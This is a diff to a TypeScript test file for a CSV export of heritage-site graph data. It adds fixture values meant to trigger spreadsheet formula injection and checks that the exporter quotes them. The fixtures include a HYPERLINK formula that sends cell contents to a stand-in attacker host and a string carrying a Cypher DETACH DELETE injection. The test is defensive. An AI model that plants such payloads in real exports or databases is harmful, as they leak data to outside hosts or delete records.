@@ -16,6 +16,7 @@ import { csvExportFiles, type CsvManifest } from './export-csv.ts';
 
 const BUFFER_POOL_BYTES = 64 * 1024 * 1024;
 const HOSTILE = `x'}) DETACH DELETE n // <b>&amp;</b> "q" \\ end\\`;
+const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"大生旧址")';
 
 const node = (id: string, extra: Partial<GraphNode>): GraphNode => ({
   id,
@@ -58,6 +59,15 @@ const NODES: GraphNode[] = [
       },
       { document: 'A|B ;; C', locator: '第 3 页', author: '某某' } as GraphNode['sources'][number],
     ],
+  }),
+  // Text a spreadsheet would run as a formula, in every kind of cell the CSV export writes.
+  node('formula-site', {
+    kind: 'HeritageSite',
+    name: FORMULA,
+    aliases: ['+1+1', "'=already quoted", '-'],
+    description: '-1+1 @SUM(1+1)',
+    properties: { industry: '@SUM(1+1)', current_use: "'-5", founded_year: 1895 },
+    sources: [{ document: '=调查表', takenAt: '2026-11-20' }],
   }),
   node('policy-doc', {
     kind: 'PolicyDocument',
@@ -167,6 +177,15 @@ describe('exports', () => {
       expect(createHash('sha256').update(text, 'utf8').digest('hex')).toBe(file.sha256);
     }
     expect(manifest.files.find((f) => f.name === 'Museum.csv')).toMatchObject({ kind: 'Museum', rows: 1 });
+    // No cell a spreadsheet would run: the name, aliases, description and a text column that start with = + - @
+    // have a quote in front (the round trip above reads them back without it); a plain number stays a number.
+    const site = await readFile(path.join(out, 'HeritageSite.csv'), 'utf8');
+    const formulaRow = site.split('\r\n').find((line) => line.startsWith('formula-site,'));
+    expect(formulaRow).toContain(`,"'${FORMULA.replaceAll('"', '""')}",'+1+1|'=already quoted|-,`);
+    expect(formulaRow).toContain(",'-1+1 @SUM(1+1),");
+    expect(formulaRow).toContain(",'@SUM(1+1),");
+    expect(formulaRow).toContain(",'-5,");
+    expect(formulaRow).toContain(',1895,');
     // A value that does not fit its column travels in the JSON column; one that fits has its own.
     const museum = await readFile(path.join(out, 'Museum.csv'), 'utf8');
     expect(museum).toContain(',1990,');
